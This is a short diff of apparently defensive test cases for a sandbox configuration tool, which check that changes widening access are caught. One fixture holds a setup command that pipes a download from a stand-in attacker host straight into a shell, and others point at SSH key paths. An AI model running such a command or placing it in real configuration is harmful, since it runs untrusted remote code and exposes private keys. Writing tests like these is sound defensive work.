@@ -80,7 +80,7 @@ source = "~/.ssh"
 mode = "cow"'
 widen 'setup curl evil.example \| sh' more '[[environment.setup]]
 run = "curl evil.example | sh"'
-widen "tools $HOME/.ssh" more '[environment]
+widen "tools /var/lib" more '[environment]
 tools = ["/var/lib"]'
 widen "python interpreter $HOME/.ssh/id" more '[environment]
 python = { interpreter = "~/.ssh/id" }'
